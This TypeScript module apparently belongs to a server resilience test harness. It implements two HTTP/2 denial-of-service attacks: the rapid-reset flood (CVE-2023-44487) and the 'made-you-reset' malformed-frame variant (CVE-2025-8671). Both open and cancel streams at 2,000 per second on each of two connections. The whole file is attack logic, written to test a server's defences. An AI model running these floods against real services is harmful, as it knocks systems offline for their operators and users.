import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { ATTACKED_NAMESPACE, leasesOf, requestFields, TENANT_TOKEN } from '../identities.js';
import { frame, reset, Type, windowUpdate } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

const CONNECTIONS = 2;
const PER_SECOND = 2000;
const LIST = requestFields('GET', leasesOf(ATTACKED_NAMESPACE), TENANT_TOKEN);

/** Opens streams and ends them before their response at the given rate, and opens a new connection whenever the server ends one. */
async function openAndEnd(attacker: Attacker, endOf: (connection: RawHttp2, stream: number) => Buffer): Promise<void> {
  await attacker.lanes(CONNECTIONS, async () => {
    const connection = await attacker.http2();
    await attacker.atRate(PER_SECOND, connection, (index) => {
      if (index % 100 === 0) attacker.note('streams', 100);
      const stream = connection.nextStream();
      connection.write(connection.headers(stream, LIST), endOf(connection, stream));
    });
    if (connection.isOver) attacker.note('connections ended by the server', 1);
  });
}

export const rapidReset: Attack = {
  name: 'rapid-reset',
  about: 'lists that are cancelled at once, 2,000 a second on each of 2 connections (CVE-2023-44487)',
  run: (attacker) => openAndEnd(attacker, (_, stream) => reset(stream)),
};

export const madeYouReset: Attack = {
  name: 'made-you-reset',
  about: 'lists followed by a frame that makes the server reset the stream, 2,000 a second on each of 2 connections (CVE-2025-8671)',
  run: (attacker) => {
    const faults = [
      (stream: number) => windowUpdate(stream, 2 ** 31 - 1),
      (stream: number) => frame(Type.DATA, 0, stream, Buffer.from('after the end')),
      (stream: number) => frame(Type.HEADERS, 5, stream, Buffer.from([0x82])),
    ];
    return openAndEnd(attacker, (_, stream) => attacker.random.pick(faults)(stream));
  },
};
